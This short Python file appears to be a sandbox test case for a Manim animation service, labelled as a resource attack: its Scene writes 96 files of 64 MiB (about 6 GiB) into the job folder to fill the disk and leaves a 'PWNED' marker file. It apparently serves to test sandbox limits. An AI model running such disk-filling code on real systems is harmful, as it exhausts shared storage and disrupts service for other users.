# family: resource
# layer: sandbox
# attack: fill the disk with files in the job folder (bounded here at 6 GiB)
from manim import *


class Attack(Scene):
    def construct(self):
        chunk = b"x" * (64 << 20)
        for i in range(96):
            with open(f"fill{i}.bin", "wb") as f:
                f.write(chunk)
        open("loot.txt", "w").write("T2M-" "PWNED wrote 6 GiB")
        self.wait(0.1)
